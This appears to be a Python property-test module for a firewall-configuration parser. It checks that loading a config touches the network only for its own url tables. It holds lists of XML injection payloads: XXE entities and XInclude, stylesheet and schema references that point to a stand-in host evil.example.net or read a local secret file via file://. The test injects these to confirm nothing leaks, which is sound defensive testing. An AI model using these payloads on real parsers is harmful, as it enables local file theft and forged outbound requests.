"""C23: the network is used for the url tables of the configuration being loaded, when fetching is on, and for nothing else."""
import io
import logging

from sim import core, fs as F, model_caf, net, web
from sim.world import CLS, MODEL, ACLConfig, gen_case, gen_env, gen_sched, gen_via

DOCTYPES = ["<!DOCTYPE %(root)s SYSTEM \"http://evil.example.net/x.dtd\">", "<!DOCTYPE %(root)s PUBLIC \"-//x//y\" \"http://evil.example.net/y.dtd\">",
            "<!DOCTYPE %(root)s [<!ENTITY e SYSTEM \"http://evil.example.net/e\">]>", "<!DOCTYPE %(root)s [<!ENTITY e SYSTEM \"file://%(secret)s\">]>",
            "<!DOCTYPE %(root)s [<!ENTITY %% p SYSTEM \"http://evil.example.net/p\"> %%p;]>", "<?xml-stylesheet href=\"http://evil.example.net/s.xsl\"?>",
            "<!DOCTYPE %(root)s [<!NOTATION n SYSTEM \"http://evil.example.net/n\"><!ENTITY e SYSTEM \"http://evil.example.net/u\" NDATA n>]>", ""]
XI = "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" "
INSIDE = [XI + "href=\"%(secret)s\" parse=\"text\"/>", XI + "href=\"file://%(secret)s\" parse=\"text\"/>", XI + "href=\"http://evil.example.net/i.xml\"/>",
          XI + "href=\"%(secret)s.xml\"><xi:fallback/></xi:include>", "<include href=\"http://evil.example.net/j.xml\"/>",
          "<?include href=\"%(secret)s\"?>", "<note xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"http://evil.example.net/ http://evil.example.net/s.xsd\"/>"]


def gen(r, tier):
    threads = []
    for _ in range(r.choice([1, 2, 3])):
        ops = []
        for _ in range(r.choice([1, 2, 3])):
            k = r.choice(["load", "load", "on", "on", "off", "off", "off", "doctype", "query", "web"])
            fmt = "pf" if k in ("on", "off", "doctype") or k == "web" and r.random() < 0.7 else None
            c = gen_case(r, fmt, size=(3, 9), neg=0.05, url=r.choice([1, 2, 3]) if k in ("on", "off", "web") and fmt == "pf" else 0) if fmt == "pf" else \
                gen_case(r, fmt, size=(3, 9), neg=0.05)
            c["opt"] = "off" if k == "off" else r.choice([None, "acl", "pf"]) if k == "on" else r.choice([None, "acl", "pf", "off"])
            op = {"op": k, "case": c, "via": gen_via(r)}
            if k in ("off", "web") and r.random() < 0.4:
                op["scheme"] = r.choice(["file", "ftp", "https", "data"])
            if k == "doctype":
                op["doc"] = r.randrange(len(DOCTYPES))
                op["use"] = r.random() < 0.5
                if r.random() < 0.5:
                    op["inside"] = [r.randrange(len(INSIDE)), r.choice(["<system>", "</aliases>", "<hostname>", "<descr>", "</filter>", "<aliases>"])]
            if k in ("query", "web"):
                e = MODEL[c["fmt"]].expected(c["st"])
                op["expr"] = model_caf.gen(r, e) if e else [{"id": None, "ip": [["src", ["any"]]]}]
            ops.append(op)
        threads.append({"ops": ops})
    return {"threads": threads, "sched": gen_sched(r), "env": gen_env(r), "shared_opts": r.random() < 0.5}


def run(w):
    logging.disable(logging.CRITICAL)
    F.scratch()
    secret = F.put("secret", "SECRETSECRET 10.66.66.66\n")
    servers = {"evil.example.net:80": {"paths": {}}}
    body = "10.66.66.66\n"
    rep = [{"chunks": [[0.1, "HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body)]], "end": "fin"}]
    urls = {}
    for t, th in enumerate(w.spec["threads"]):
        for n, op in enumerate(th["ops"]):
            for s in op["case"]["st"]:
                if s["t"] == "alias" and s["type"] == "urltable":
                    host, path = "t%d-%d.example.net" % (t, n), "/%s.txt" % s["n"]
                    s["v"] = "http://%s%s" % (host, path)
                    if op.get("scheme"):
                        s["v"] = {"file": "file://" + secret, "ftp": "ftp://%s%s" % (host, path), "https": "https://%s%s" % (host, path),
                                  "data": "data:text/plain,10.66.66.66"}[op["scheme"]]
                    servers.setdefault(host + ":80", {"paths": {}})["paths"][path] = rep
                    urls.setdefault((t, n), []).append((host, path))
    net.reset(servers)
    net.net.strict = True
    app = web.serve(web.Store()) if any(op["op"] == "web" for th in w.spec["threads"] for op in th["ops"]) else None
    shared = {}
    marks = []

    def options(case):
        if not w.spec["shared_opts"]:
            return w.options(case)
        k = case.get("opt")
        if k not in shared:
            shared[k] = w.options(case)
        return shared[k]

    def load(case, via, text):
        o = options(case)
        if via in ("cls", "bom"):
            return CLS[case["fmt"]].fromString(text, options=o)
        if via == "auto":
            return ACLConfig.fromString(text, options=o)
        return ACLConfig.fromFile(io.BytesIO(text.encode()), options=o)

    def uses():
        me = core.current().n
        return [x for x in net.net.log if x[1] == me]

    def secrets():
        return sum(x[1] == "open" for x in F.fs.log)

    def one(t, n, op):
        k, case = op["op"], op["case"]
        text = w.text(case)
        before, s0 = len(uses()), secrets()
        fetch = "off"
        if case["fmt"] == "pf" and case.get("opt") != "off" and k == "on":
            fetch = {s["n"]: body.split("\n") for s in case["st"] if s["t"] == "alias" and s["type"] == "urltable"}
        e = w.expected(case, fetch=fetch) if case["fmt"] == "pf" else w.expected(case)
        if k == "doctype":
            root = next((s["root"] for s in case["st"] if s["t"] == "sys"), "pfsense")
            d = DOCTYPES[op["doc"]] % {"root": root, "secret": secret}
            h, rest = text.split("\n", 1)
            if op["use"] and "ENTITY e " in d:
                rest = rest.replace("<descr>", "<descr>&e;", 1)
            if op.get("inside"):
                at = op["inside"][1]
                rest = rest.replace(at, at + INSIDE[op["inside"][0]] % {"secret": secret}, 1)
            text = h + "\n" + d + "\n" + rest
        if k == "web":
            a = app.test_client().post("/add", data={"file": (io.BytesIO(text.encode()), "x.conf")})
            ok = a.status_code == 302 and "config=" in a.headers["Location"]
            w.expect(ok == (e is not None), "upload", lambda: "%s %s" % (a.status_code, a.headers.get("Location")))
            if ok:
                a = app.test_client().get(a.headers["Location"] + "&exp=1&sns=1")
                w.expect(a.status_code == 200 and b"10.66.66.66" not in a.data, "shows-table", "the page shows what only the network knows")
        else:
            try:
                cfg = load(case, op["via"], text)
            except Exception as x:
                cfg = None
                if k != "doctype":
                    w.expect(e is None, "rejected", lambda: "%s: %r" % (k, x))
            if cfg is not None:
                if k == "query":
                    f = w_caf(model_caf.render(op["expr"]))
                    cfg.resolve(cfg.filter(f))
                    cfg.expand()
                    repr(cfg.rules.rules)
                else:
                    g = w.snap(cfg)
                    for x in (e, g):
                        for ru in (x or {}).get("rules", []):
                            if case["fmt"] == "pf":
                                ru["remark"] = ru["remark"][:1]
                    if k == "doctype":
                        w.expect("SECRET" not in repr(g) and "10.66.66.66" not in repr(g), "external", "an external entity was read")
                    w.expect(g == e or k == "doctype" and op.get("inside"), "differs", lambda: "%s: %s" % (k, w_diff(e or {}, g)))
        used = [x[2] for x in uses()[before:]]
        marks.append([k, len(used)])
        if k != "on" or case["fmt"] != "pf":
            w.expect(not used, "network-used", lambda: "%s (%s, options %s): %s" % (k, case["fmt"], case.get("opt"), used))
            w.expect(secrets() == s0, "file-read", lambda: "%s (options %s) read a file that is not the configuration" % (k, case.get("opt")))
            return
        want = []
        for host, path in urls.get((t, n), []):
            want += [["connect %s:80" % host, "request " + path]]
        got = [x for x in used if x.startswith(("connect", "request"))]
        flat = [y for x in want for y in x]
        if e is None:
            w.expect(all(x in flat for x in got), "network-used", lambda: "%s, its tables: %s" % (got, flat))
        else:
            w.expect(sorted(got) == sorted(flat), "network-used", lambda: "%s, its tables: %s" % (got, flat))
        hosts = {h for h, p in urls.get((t, n), [])}
        w.expect(all(x.split(" ")[1].split(":")[0] in hosts for x in used if x.startswith(("lookup", "resolve"))), "lookup", lambda: "%s" % used)

    w.sim([lambda t=t, th=th: [one(t, n, op) for n, op in enumerate(th["ops"])] for t, th in enumerate(w.spec["threads"])])
    w.note(marks)


def w_caf(t):
    from sim.world import cafBlock
    return cafBlock.fromString(t)


def w_diff(a, b):
    from sim import observe
    return observe.diff(a, b)
